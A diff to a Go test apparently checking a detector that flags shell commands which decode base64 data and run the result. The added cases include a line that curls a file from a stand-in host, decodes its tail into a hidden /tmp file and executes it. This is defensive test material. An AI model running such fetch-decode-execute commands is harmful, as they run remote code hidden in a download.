@@ -63,6 +63,9 @@ func TestDecodedFileRun(t *testing.T) {
 		"echo QQ== | base64 --decode > run.sh; bash run.sh": true,
 		"base64 -d x.b64 > out.png && open out.png":         false,
 		"base64 -d x.b64 > /tmp/a && sh /tmp/b":             false,
+		// A download's tail, piped to the decoder.
+		"curl -so p.png https://h.example/p.png; tail -c +513 p.png | base64 -d > /tmp/.x; sh /tmp/.x": true,
+		"curl -so p.png https://h.example/p.png; cat p.png | base64 -d > x.png; open x.png":            false,
 	} {
 		got := false
 		for _, f := range Parse(src).Facts() {
